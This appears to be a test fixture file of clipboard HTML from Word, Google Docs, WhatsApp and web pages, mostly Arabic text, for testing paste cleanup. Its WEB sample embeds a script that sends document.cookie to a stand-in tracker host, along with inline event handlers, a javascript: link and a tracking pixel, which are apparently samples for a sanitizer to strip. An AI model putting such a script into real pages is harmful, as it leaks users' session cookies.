/*
 * Clipboard content of several programs. The markup follows each program; the text was written for these
 * tests.
 */

export const WORD = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=Generator content="Microsoft Word 15">
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style><!-- p.MsoNormal {mso-style-parent:""; margin:0cm; direction:rtl; unicode-bidi:embed;} --></style></head>
<body lang=AR-SA style='tab-interval:36.0pt;word-wrap:break-word'><!--StartFragment-->
<h1 dir=RTL style='text-align:right'><span lang=AR-SA style='font-family:"Arial",sans-serif'>خطة <b>الميناء</b><o:p></o:p></span></h1>
<p class=MsoNormal dir=RTL style='text-align:right;direction:rtl;unicode-bidi:embed'><span lang=AR-SA style='font-size:14.0pt;mso-bidi-font-family:Arial'>أعلنت
الإدارة&nbsp; اليوم <b style='mso-bidi-font-weight:normal'>خطة جديدة</b> <i>للرصيف</i>، وفيها </span><span dir=LTR></span><span dir=LTR>UNESCO</span><span dir=RTL></span><span lang=AR-SA>.<o:p></o:p></span></p>
<p class=MsoNormal dir=RTL><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraphCxSpFirst dir=RTL style='margin-right:36.0pt;text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol;mso-fareast-font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><![endif]><span lang=AR-SA>رصيف ثالث<o:p></o:p></span></p>
<p class=MsoListParagraphCxSpMiddle dir=RTL style='margin-right:72.0pt;text-indent:-18.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span style='font-family:"Courier New"'><span style='mso-list:Ignore'>o<span>&nbsp;&nbsp; </span></span></span><![endif]><span lang=AR-SA>بطول 300 متر<o:p></o:p></span></p>
<p class=MsoListParagraphCxSpLast dir=RTL style='margin-right:36.0pt;text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>·<span>&nbsp;</span></span><![endif]><span lang=AR-SA>رافعتان<o:p></o:p></span></p>
<p class=MsoNormal dir=RTL><span lang=AR-SA>والمراحل:</span></p>
<p class=MsoListParagraphCxSpFirst dir=RTL style='mso-list:l1 level1 lfo2'><![if !supportLists]><span lang=AR-SA><span style='mso-list:Ignore'>1.<span>&nbsp;&nbsp; </span></span></span><![endif]><span lang=AR-SA>الدراسة</span></p>
<p class=MsoListParagraphCxSpLast dir=RTL style='mso-list:l1 level1 lfo2'><![if !supportLists]><span lang=AR-SA><span style='mso-list:Ignore'>2.<span>&nbsp;&nbsp; </span></span></span><![endif]><span lang=AR-SA>البناء</span></p>
<table class=MsoTableGrid dir=rtl border=1 cellspacing=0 style='border-collapse:collapse'><tr style='mso-yfti-irow:0'><td width=208 colspan=2 style='width:155.8pt'><p class=MsoNormal dir=RTL><b><span lang=AR-SA>السنة<o:p></o:p></span></b></p></td></tr>
<tr><td><p class=MsoNormal dir=RTL>2027</p></td><td><p class=MsoNormal dir=RTL>أربعة ملايين</p></td></tr></table>
<p class=MsoNormal dir=LTR style='direction:ltr'><span lang=EN-US>The port authority did not comment.</span></p>
<p class=MsoNormal dir=LTR style='direction:ltr'><span lang=AR-SA>انتهى</span><v:shape id="x"></v:shape></p>
<!--EndFragment--></body></html>`;

export const DOCS = `<meta charset='utf-8'><b style="font-weight:normal;" id="docs-internal-guid-3f1c8a10-7fff-1b2c-0000-1234567890ab"><h2 dir="rtl" style="line-height:1.38;margin-top:18pt;"><span style="font-size:16pt;font-family:Arial;color:#000000;background-color:transparent;font-weight:400;font-style:normal;">ما الذي تغيّر</span></h2><p dir="rtl" style="line-height:1.38;"><span style="font-size:11pt;font-weight:400;font-style:normal;white-space:pre-wrap;">قالت الهيئة إن </span><span style="font-size:11pt;font-weight:700;font-style:normal;white-space:pre-wrap;">القرار نهائي</span><span style="font-weight:400;font-style:italic;white-space:pre-wrap;"> كما ورد</span><span style="font-weight:400;"> في </span><a href="https://www.google.com/url?q=https://example.org/report?utm_source%3Ddocs%26id%3D7&amp;sa=D&amp;source=editors&amp;ust=1700000000&amp;usg=AOvVaw" style="text-decoration:none;"><span style="font-size:11pt;color:#1155cc;font-weight:400;text-decoration:underline;">التقرير</span></a><span style="font-weight:400;">.</span></p><br /><ul style="margin-top:0;padding-inline-start:48px;"><li dir="rtl" style="list-style-type:disc;" aria-level="1"><p dir="rtl" role="presentation"><span style="font-weight:400;">أول</span></p></li><ul style="margin-top:0;"><li dir="rtl" style="list-style-type:circle;" aria-level="2"><p dir="rtl" role="presentation"><span style="font-weight:400;">داخله</span></p></li></ul><li dir="rtl" aria-level="1"><p dir="rtl" role="presentation"><span style="font-weight:400;">ثانٍ</span></p></li></ul><h4 dir="rtl"><span style="font-weight:400;">تفصيل</span></h4><p dir="rtl"><span style="font-weight:400;"><span style="border:none;display:inline-block;overflow:hidden;width:602px;height:301px;"><img src="https://lh7-rt.googleusercontent.com/docsz/AD_4nXe" width="602" height="301" /></span></span></p></b><br class="Apple-interchange-newline">`;

export const CHAT = `[\u200F24/11/2026، 9:12:05 ص] سعاد: *عاجل* وصلت السفينة إلى _رأس المنارة_
[\u200F24/11/2026، 9:13:44 ص] مراد: عليها 4*200 طن، والصور على https://example.org/a_b?utm_source=whatsapp&id=3

[\u200F24/11/2026، 9:14:00 ص] سعاد: ‏<تم استبعاد الوسائط>`;

export const WEB = `<html><body><!--StartFragment--><article class="post" data-id="9">
<script>fetch('https://tracker.example/' + document.cookie)</script><style>.x{color:red}</style>
<h1 style="font-size:40px">عنوان الصفحة</h1>
<p onclick="alert(1)">نص فيه&nbsp;&nbsp;<a href="https://news.example/a?id=5&utm_source=tw&utm_medium=social&fbclid=IwAR0#top" onmouseover="x()">رابط</a> و<a href="javascript:alert(1)">آخر</a> و<a href="mailto:a@example.org">بريد</a> \uFEE3\uFEAE\uFEA3\uFE92\uFE8E \u202Eمقلوب\u202C كـــلام<img src="https://pixel.example/p.gif" width="1" height="1"></p>
<p>سطر أول<br>سطر ثانٍ<br><br>فقرة بعده</p>
<p style="display:none">كلمات خفية</p>
<figure><img src="https://cdn.example/photo.jpg" width="800" height="500" alt="صورة"><figcaption>شرح الصورة</figcaption></figure>
<h5>عنوان صغير</h5>
<blockquote><div>قول <strong>مأثور</strong></div><div>وتتمته</div></blockquote>
<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?rel=0"></iframe><iframe src="https://ads.example/x"></iframe>
<table><thead><tr><th scope="col">المدينة</th><th>العدد</th></tr></thead><tbody><tr><td>درنة</td><td>12<script>x</script></td></tr></tbody></table>
<pre><code>let x = 1;
  y();</code></pre>
<form><input value="x"><button>اشترك</button></form><hr><p dir="ltr">Only Latin words here.</p>
</article><!--EndFragment--></body></html>`;

/** Word with tracked changes and a colleague's comments, in every markup that Word uses for them. */
export const WORD_TRACKED = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"><head><style><!-- del {color:red} --></style></head>
<body lang=AR-SA><!--StartFragment-->
<p class=MsoNormal dir=RTL style='direction:rtl'><span lang=AR-SA>أعلنت الهيئة </span><span class=msoDel><del cite="mailto:x" datetime="2026-11-24T10:00"><span lang=AR-SA>نص محذوف</span></del></span><span class=msoIns><ins cite="mailto:x" datetime="2026-11-24T10:00"><span lang=AR-SA>نص مضاف</span></ins></span><span lang=AR-SA> عن <a style='mso-comment-reference:E_1;mso-comment-date:20261124T1000'>خطتها</a></span><span class=MsoCommentReference><span dir=RTL style='font-size:8.0pt'><![if !supportAnnotations]><a class=msocomanchor id="_anchor_1" href="#_msocom_1" language=JavaScript name="_msoanchor_1">[E1]</a><![endif]><span style='mso-special-character:comment'>&nbsp;</span></span></span><span style='mso-comment-reference:E_2'>[E2]</span><del>باقي</del>.</p>
<p class=MsoNormal dir=LTR style='text-align:left;direction:ltr'><span lang=EN-US>An English paragraph with “smart quotes”.</span></p>
<p class=MsoNormal dir=RTL><span lang=AR-SA>الهاتف </span><span dir=LTR>+218 91 234 5678</span><span lang=AR-SA> وبه H<sub>2</sub>O و20 م<sup>2</sup> و<s>قديم</s> و<span style='text-decoration:line-through'>أقدم</span><a href="#_ftn1" name="_ftnref1"><span class=MsoFootnoteReference><![if !supportFootnotes]>[1]<![endif]></span></a></span></p>
<p class=MsoListParagraphCxSpFirst dir=LTR style='mso-list:l0 level1 lfo1'><![if !supportLists]><span><span style='mso-list:Ignore'>5.<span>&nbsp;&nbsp;</span></span></span><![endif]><span lang=EN-US>Item five</span></p>
<p class=MsoListParagraphCxSpLast dir=LTR style='mso-list:l0 level1 lfo1'><![if !supportLists]><span><span style='mso-list:Ignore'>6.<span>&nbsp;&nbsp;</span></span></span><![endif]><span lang=EN-US>Item six</span></p>
<table class=MsoTableGrid dir=rtl><tr><td><p class=MsoNormal dir=LTR style='direction:ltr'><span lang=EN-US>A cell.</span></p></td><td><p class=MsoNormal dir=RTL>خلية<span class=msoDel><del> محذوفة</del></span></p></td></tr></table>
<!--EndFragment-->
<div style='mso-element:footnote-list'><div style='mso-element:footnote' id=ftn1><p class=MsoFootnoteText dir=RTL><a href="#_ftnref1" name="_ftn1"><span class=MsoFootnoteReference>[1]</span></a> حاشية النص</p></div></div>
<div style='mso-element:comment-list'><![if !supportAnnotations]><hr class=msocomoff align=left size=1 width="33%"><![endif]><div style='mso-element:comment'><div id="_com_1" class=msocomtxt language=JavaScript><span style='mso-comment-author:"سلمى"'><a name="_msocom_1"></a></span><p class=MsoCommentText dir=RTL><span class=MsoCommentReference><a href="#_msoanchor_1" class=msocomoff>[E1]</a></span>تعليق المحرر الداخلي السري</p></div></div></div>
<div style='mso-element:header'><p class=MsoHeader>ترويسة الورقة</p></div>
</body></html>`;

/**
 * A page exported by Google Docs with a comment, content of Word in a browser, and a margin note of
 * LibreOffice.
 */
export const COMMENTED = `<html><body><p dir="rtl"><span>نص الخبر</span><sup><a href="#cmnt1" id="cmnt_ref1">[a]</a></sup><span> وبقيته</span></p>
<p dir="rtl"><span class="TrackChangeTextDeletionMarker TrackedChange SCXW1"><span class="TextRun">محذوف هنا</span></span><span class="TrackChangeTextInsertion TrackedChange SCXW1">مضاف هنا</span><span class="suggestion-deletion">اقتراح بالحذف</span></p>
<p>سطر<span class="annotation_style_by_filter">[سر في الهامش]</span> أخير<span style="vertical-align:super;font-size:0.6em">2</span></p>
<ol start="5"><li>خامس</li><li>سادس</li></ol><ol><li value="٩">تاسع</li></ol>
<ul dir="ltr"><li>First point.</li><li>Second one.</li></ul><blockquote dir="ltr"><p>Said in English, once.</p></blockquote>
<p><a href="https://ar.wikipedia.org/wiki/%D8%B7%D8%B1%D8%A7%D8%A8%D9%84%D8%B3">https://ar.wikipedia.org/wiki/%D8%B7%D8%B1%D8%A7%D8%A8%D9%84%D8%B3</a></p>
<div style="border:1px solid black;margin:5px"><p><a href="#cmnt_ref1" id="cmnt1">[a]</a><span>تعليق زميل في المستند</span></p></div></body></html>`;
